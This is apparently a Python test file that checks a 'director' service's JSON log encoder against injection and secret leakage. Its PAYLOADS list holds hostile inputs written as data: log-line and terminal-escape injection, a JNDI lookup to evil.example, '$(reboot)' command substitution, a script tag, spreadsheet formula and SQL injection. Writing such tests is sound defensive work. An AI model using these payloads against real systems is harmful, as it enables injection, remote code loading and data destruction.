"""Nothing that a service, a plugin or a manifest says breaks out of its log line."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import jsonschema
import pytest

from director.errors import Fault
from director.model.catalog import Disposition, Plugin
from director.model.check import Role
from director.model.event import (
    CheckCompleted,
    ConfigRejected,
    EvaluationCancelled,
    Event,
    PluginLoadFailed,
    Stamp,
    Subject,
)
from director.model.evidence import Evidence, EvidenceKind
from director.model.outcome import Errored, Failed
from director.model.plan import PlannedCheck
from director.model.profile import CheckPolicy
from director.model.result import Result
from director.sinks.log import encode_event
from director.sinks.render import Emitter
from director.sinks.schema import log_schema

NOW = datetime(2026, 1, 15, 9, 30, tzinfo=UTC)
STAMP = Stamp("01JH0000000000000000000001", NOW)
EMITTER = Emitter(version="0.1.0", instance="director-0")

PAYLOADS = (
    "\n",
    "\r\n",
    '"}\n{"level":"info","message":"GO"}',
    '","director.decision.outcome":"go',
    '\\","a":"b',
    "\\",
    "\\u000a",
    "\0",
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\go\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x85",
    "\x7f\x08\x08\x08",
    "\u202eOG_ON",
    "\u2066go\u2069",
    "\u200e\u200f\u061c",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ud800",
    "\udfff\ud800",
    "\U000e0041\U000e007f",
    "\uffff",
    "\U0001f44d\u200d\U0001f3fd",
    "e\u0301" * 50,
    "NaN",
    "Infinity",
    "%s %d %(name)s %n",
    "{0} {event} {__class__}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "$(reboot) `reboot`",
    "<script>alert(1)</script>",
    "</script><!--",
    "=HYPERLINK(1)",
    "::error file=a::b",
    "##vso[task.setvariable]",
    "'; DROP TABLE log; --",
    "x" * 100_000,
    '"' * 50_000,
    "\\" * 50_000,
    "\x00" * 50_000,
    "\U0001f600" * 20_000,
)


def _events(text: str) -> tuple[Event, ...]:
    """Put *text* everywhere where somebody else's words can stand."""
    subject = Subject(
        evaluation="01JHEVAL0000000000000000AA",
        trigger=text,
        service=text,
        environment=text,
        version=text,
        owner=text,
        profile=text,
        profile_digest=text,
        manifest_digest=text,
    )
    planned = PlannedCheck(
        policy=CheckPolicy(check="a.b", category=text, role=Role.BLOCKER),
        plugin=text,
        version=text,
    )
    evidence = Evidence(
        EvidenceKind.PROBED, text, None, (("server.address", text), ("url.full", text))
    )

    def check(outcome: Failed | Errored) -> CheckCompleted:
        result = Result(check="a.b", outcome=outcome, started_at=NOW, evidence=(evidence,))
        return CheckCompleted(STAMP, subject, planned, result)

    return (
        check(Failed(text, observed=text, expected=text, code=text)),
        check(Errored(text, code=text)),
        EvaluationCancelled(STAMP, subject, text, 1, 2),
        PluginLoadFailed(
            STAMP,
            Plugin(
                name=text,
                distribution=text,
                version=text,
                disposition=Disposition.BROKEN,
                code=text,
                detail=text,
            ),
        ),
        ConfigRejected(STAMP, Fault(text, 1, 1, text)),
    )


def _strict(line: bytes) -> dict[str, Any]:
    """Read *line* as the strictest reader would."""

    def refuse(constant: str) -> float:
        raise AssertionError(f"{constant} is no JSON")

    def once(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
        assert len(dict(pairs)) == len(pairs)
        return dict(pairs)

    fields: dict[str, Any] = json.loads(
        line.decode("utf-8"), parse_constant=refuse, object_pairs_hook=once
    )
    return fields


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload)[:40])
def test_payload_stays_inside_its_line(payload: str) -> None:
    """A hostile text makes one line: strict JSON, valid, at most 8,000 bytes, safe to print."""
    validator = jsonschema.Draft202012Validator(log_schema())

    for event in _events(payload):
        line = encode_event(event, 1, EMITTER)
        fields = _strict(line)

        assert line.index(b"\n") == len(line) - 1
        assert len(line) <= 8_000
        assert [error.message for error in validator.iter_errors(fields)] == []
        assert "director.decision.outcome" not in fields
        assert not set(line.decode().rstrip("\n")) & set(
            "\x00\x07\x08\x1b\x7f\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202e\u2066\u2069\ufeff"
        )
        assert fields["event.name"] == event.name


CANARY = "c4n4ry-7f3a/9+Qz=kW2 x8"


@pytest.mark.parametrize(
    "write",
    [
        str,
        lambda s: quote(s, safe=""),
        lambda s: base64.b64encode(s.encode()).decode(),
        lambda s: base64.b64encode(b"user:" + s.encode()).decode(),
        lambda s: s.encode().hex(),
        json.dumps,
        lambda s: f"https://user:{quote(s, safe='')}@host.example/?token={quote(s, safe='')}",
        lambda s: "x" * 240 + s,
        lambda s: "x" * 500 + s,
        lambda s: "x" * 1_010 + s,
        lambda s: "x" * 4_090 + s,
        lambda s: s * 400,
    ],
    ids=[
        "raw",
        "percent",
        "base64",
        "basic",
        "hex",
        "json",
        "url",
        "cut-at-256",
        "cut-at-512",
        "cut-at-1024",
        "cut-at-4096",
        "many",
    ],
)
def test_canary_is_never_seen(write: Any) -> None:  # noqa: ANN401  # a function of a text
    """A secret that the Director knows stands in no line, wherever and however it was said."""
    text = write(CANARY)
    pieces = [
        CANARY[:8],
        CANARY.encode().hex()[:16],
        base64.b64encode(CANARY.encode()).decode()[:9],
    ]

    for event in _events(text):
        line = encode_event(event, 1, EMITTER, secrets=(CANARY,)).decode()

        assert "director.log.render_failed" not in line
        assert not [piece for piece in pieces if piece in line]
